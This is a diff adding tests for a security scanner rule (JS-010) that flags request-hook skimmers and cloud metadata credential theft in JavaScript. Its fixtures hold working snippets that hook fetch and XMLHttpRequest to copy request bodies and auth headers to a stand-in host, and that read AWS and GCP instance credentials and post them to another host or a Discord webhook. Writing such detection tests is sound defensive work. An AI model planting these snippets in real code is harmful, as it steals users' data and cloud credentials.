@@ -174,3 +174,72 @@ describe('token commands', () => {
     expect(await ruleFindings('JS-010', code)).toHaveLength(0);
   });
 });
+
+describe('JS-010 request hooks (skimmers)', () => {
+  it('flags an XMLHttpRequest.send hook that beacons the body elsewhere', async () => {
+    const code = `const send = XMLHttpRequest.prototype.send;
+      XMLHttpRequest.prototype.send = function (body) {
+        navigator.sendBeacon('https://x.invalid/c', JSON.stringify({ b: body }));
+        return send.apply(this, arguments);
+      };`;
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+    expect(f[0]!.message).toMatch(/page's request data \(parameters of a XMLHttpRequest\.prototype\.send hook\).*sendBeacon/);
+  });
+  it('flags a fetch hook that copies request bodies out, and a setRequestHeader hook that copies tokens', async () => {
+    const fetchHook = `const of = window.fetch;
+      window.fetch = async function (input, init) {
+        new XMLHttpRequest().open('POST', 'https://x.invalid/k'); navigator.sendBeacon('https://x.invalid/k', init && init.body);
+        return of(input, init);
+      };`;
+    expect(await ruleFindings('JS-010', fetchHook)).toHaveLength(1);
+    const header = `const h = XMLHttpRequest.prototype.setRequestHeader;
+      XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
+        if (/auth/i.test(name)) fetch('https://x.invalid/t', { method: 'POST', body: value });
+        return h.call(this, name, value);
+      };`;
+    expect(await ruleFindings('JS-010', header)).toHaveLength(1);
+  });
+  it('ignores wrappers that pass requests on to the original, and monitoring of URLs and timings', async () => {
+    const wrapper = `const of = window.fetch;
+      window.fetch = function (input, init) { const t = Date.now(); return of(input, init).finally(() => record(Date.now() - t)); };`;
+    expect(await ruleFindings('JS-010', wrapper)).toHaveLength(0);
+    const rum = `const open = XMLHttpRequest.prototype.open; const send = XMLHttpRequest.prototype.send;
+      XMLHttpRequest.prototype.open = function (method, url) {
+        navigator.sendBeacon('https://rum.x.invalid/v1', JSON.stringify({ method, url, t: performance.now() }));
+        return open.apply(this, arguments);
+      };
+      XMLHttpRequest.prototype.send = function (body) { this._size = body ? body.length : 0; return send.call(this, body); };`;
+    expect(await ruleFindings('JS-010', rum)).toHaveLength(0);
+  });
+});
+
+describe('JS-010 cloud credentials from the metadata service', () => {
+  it('flags instance credentials posted to another host', async () => {
+    const aws = `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
+      .then((r) => r.text()).then((t) => fetch('https://x.invalid/c', { method: 'POST', body: t }));`;
+    const f = await ruleFindings('JS-010', aws);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.message).toMatch(/cloud credentials \(http:\/\/169\.254\.169\.254\/latest\/meta-data\/iam/);
+    expect(f[0]!.severity).toBe('critical');
+    const gcp = `const axios = require('axios');
+      (async () => { const { data } = await axios.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } });
+        await axios.post('https://discord.com/api/webhooks/1/x', { content: JSON.stringify(data) }); })();`;
+    expect(await ruleFindings('JS-010', gcp)).toHaveLength(1);
+  });
+  it('ignores credential providers: the role URL, signed cloud API calls, endpoints built at run time', async () => {
+    const provider = `async function creds() {
+        const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
+        const c = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role)).json();
+        await fetch('https://sts.us-east-1.amazonaws.com/', { method: 'POST', headers: { 'x-amz-security-token': c.Token } });
+        return fetch(endpointFor(region), { headers: { authorization: sign(c) } });
+      }
+      module.exports = creds;`;
+    expect(await ruleFindings('JS-010', provider)).toHaveLength(0);
+    // the metadata service's other paths (instance id, region) are not credentials
+    const meta = `fetch('http://169.254.169.254/latest/meta-data/instance-id').then((r) => r.text())
+      .then((id) => fetch('https://telemetry.x.invalid/v1', { method: 'POST', body: id }));`;
+    expect(await ruleFindings('JS-010', meta)).toHaveLength(0);
+  });
+});
